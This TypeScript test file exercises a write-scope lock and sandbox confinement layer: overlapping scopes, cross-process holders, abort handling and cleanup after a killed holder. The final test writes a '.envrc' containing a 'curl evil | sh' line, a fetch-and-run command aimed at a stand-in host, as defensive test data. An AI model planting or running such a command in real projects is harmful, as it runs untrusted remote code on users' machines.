// One call at a time in overlapping write scopes (scope-lock.ts), across runs in one
// process and across processes; a holder that dies frees its scopes. Every wait is
// observed through the probe (the waiter is connected to the holder), never the clock.
import test from 'ava';
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, realpathSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { lockWriteScopes, type ScopeLock } from '../../../../src/host/executors/confine/scope-lock.js';
import { createCommandIsolation } from '../../../../src/host/executors/confine/command-isolation.js';
import { bubblewrapPath, confinedIsolation } from '../../../fixtures/isolation.js';
import { tempDir } from '../../../fixtures/temp.js';

const LOCK_MODULE = fileURLToPath(new URL('../../../../src/host/executors/confine/scope-lock.js', import.meta.url));

function workspace(t: Parameters<typeof tempDir>[0]): string {
  const ws = path.join(realpathSync(tempDir(t, 'zb-scope-lock-')), 'ws');
  mkdirSync(path.join(ws, 'a', 'deep'), { recursive: true });
  mkdirSync(path.join(ws, 'b'));
  return ws;
}

/** Takes the lock on `roots` after `holder` holds its own, and resolves 'waits' when it is connected to a holder, or 'held' if it got the lock. */
function contend(roots: readonly string[]): { outcome: Promise<'waits' | 'held'>; lock: Promise<ScopeLock> } {
  let waits!: () => void;
  const waiting = new Promise<'waits'>((resolve) => (waits = () => resolve('waits')));
  const lock = lockWriteScopes(roots, { probe: { waiting: (name) => (name.endsWith('arbiter') ? undefined : waits()) } });
  return { outcome: Promise.race([waiting, lock.then(() => 'held' as const)]), lock };
}

for (const [title, holderRoot, waiterRoot] of [
  ["the holder's own root", '', ''],
  ["a root inside the holder's", '', 'a/deep'],
  ["a root around the holder's", 'a/deep', ''],
  ["a root not made yet inside the holder's", 'a', 'a/new/file'],
] as const) {
  test(`a call on ${title} waits, and goes on when the holder releases`, async (t) => {
    const ws = workspace(t);
    const holder = await lockWriteScopes([path.join(ws, holderRoot)]);
    const waiter = contend([path.join(ws, waiterRoot)]);
    t.is(await waiter.outcome, 'waits');
    holder.release();
    (await waiter.lock).release();
  });
}

test('calls in sibling scopes, and in scopes of other workspaces, do not wait for each other', async (t) => {
  const ws = workspace(t);
  const other = workspace(t);
  const a = await lockWriteScopes([path.join(ws, 'a')]);
  const b = contend([path.join(ws, 'b')]);
  t.is(await b.outcome, 'held');
  const c = contend([other]);
  t.is(await c.outcome, 'held');
  for (const lock of [a, await b.lock, await c.lock]) lock.release();
});

test('a call with several roots waits when any of them overlaps a holder', async (t) => {
  const ws = workspace(t);
  const holder = await lockWriteScopes([path.join(ws, 'b')]);
  const waiter = contend([path.join(ws, 'a'), ws]);
  t.is(await waiter.outcome, 'waits');
  holder.release();
  (await waiter.lock).release();
});

test('reading the holders and binding are one step: a call that reads them meanwhile waits', async (t) => {
  const ws = workspace(t);
  let arbiterWaited!: () => void;
  const secondAtArbiter = new Promise<void>((resolve) => (arbiterWaited = resolve));
  let second: Promise<'waits' | 'held'> | undefined;
  let secondLock: Promise<ScopeLock> | undefined;
  const first = lockWriteScopes([ws], {
    probe: {
      // The first call found no holder and is about to bind: a second call for the same root starts now.
      beforeBind: () => {
        let waits!: () => void;
        const waiting = new Promise<'waits'>((resolve) => (waits = () => resolve('waits')));
        secondLock = lockWriteScopes([ws], { probe: { waiting: (name) => (name.endsWith('arbiter') ? arbiterWaited() : waits()) } });
        second = Promise.race([waiting, secondLock.then(() => 'held' as const)]);
        // Bind once the second call waits at the arbiter (or holds the scope, which must not happen).
        return Promise.race([secondAtArbiter, secondLock.then(() => undefined)]);
      },
    },
  });
  const held = await first;
  t.is(await second, 'waits', 'both calls held the scope at once');
  held.release();
  (await secondLock!).release();
});

test('a wait the signal aborts holds nothing', async (t) => {
  const ws = workspace(t);
  const holder = await lockWriteScopes([ws]);
  const controller = new AbortController();
  const waiting = lockWriteScopes([ws], { signal: controller.signal, probe: { waiting: () => controller.abort(new Error('cancelled by the test')) } });
  await t.throwsAsync(waiting, { message: 'cancelled by the test' });
  holder.release();
  const next = contend([ws]);
  t.is(await next.outcome, 'held', 'the aborted waiter took nothing');
  (await next.lock).release();
});

/** A second OS process that takes the lock on `root` and says "held"; it releases when its stdin ends. */
async function holderProcess(t: Parameters<typeof tempDir>[0], root: string): Promise<ChildProcess> {
  const script = `import { lockWriteScopes } from ${JSON.stringify(LOCK_MODULE)};
const lock = await lockWriteScopes([${JSON.stringify(root)}]);
process.stdout.write('held\\n');
process.stdin.resume();
process.stdin.on('end', () => { lock.release(); process.stdout.write('released\\n'); });`;
  const child = spawn(process.execPath, ['--input-type=module', '-e', script], { stdio: ['pipe', 'pipe', 'inherit'] });
  t.teardown(() => child.kill('SIGKILL'));
  const [first] = (await once(child.stdout, 'data')) as [Buffer];
  t.is(first.toString(), 'held\n');
  return child;
}

test('across OS processes: a call waits for another process holding its scope, and goes on when it releases', async (t) => {
  const ws = workspace(t);
  const child = await holderProcess(t, ws);
  const waiter = contend([path.join(ws, 'a')]);
  t.is(await waiter.outcome, 'waits');
  // Listened for before the holder is told to go: it may exit before the waiter's lock resolves.
  const exited = once(child, 'exit');
  child.stdin!.end();
  (await waiter.lock).release();
  const [code] = (await exited) as [number];
  t.is(code, 0);
});

test('a holder that is killed does not block the next call: the kernel frees its names', async (t) => {
  const ws = workspace(t);
  const child = await holderProcess(t, ws);
  const waiter = contend([ws]);
  t.is(await waiter.outcome, 'waits');
  child.kill('SIGKILL'); // no release, no aftercare: the process is gone
  (await waiter.lock).release();
  t.pass();
});

test("the write tool's check waits for another run's bash call in the scope, and never puts back what that command wrote", async (t) => {
  const ws = workspace(t);
  const layout = { readRoots: [ws], writeRoots: [ws] };
  const callB = await confinedIsolation(layout).beginCall();
  // What run B's command does in its sandbox: a .envrc, which does not exist, so nothing bound it read-only.
  writeFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
  let waits!: () => void;
  const waiting = new Promise<'waits'>((resolve) => (waits = () => resolve('waits')));
  const isolationA = createCommandIsolation({ kind: 'bubblewrap', bwrap: bubblewrapPath() }, layout, { waiting: () => waits() });
  const writeA = isolationA.beginFileWrite();
  t.is(await Promise.race([waiting, writeA.then(() => 'recorded' as const)]), 'waits', "run A's write recorded while run B's command was in flight");
  t.throws(() => callB.finish(), { code: 'ZB_CONFINEMENT_PROTECTED_FILE' } as never); // B's aftercare removes it
  const check = await writeA;
  writeFileSync(path.join(ws, 'b', 'notes.md'), 'notes\n'); // run A's write
  t.notThrows(() => check.finish());
  t.false(existsSync(path.join(ws, '.envrc')), 'the .envrc run B wrote was put back');
});
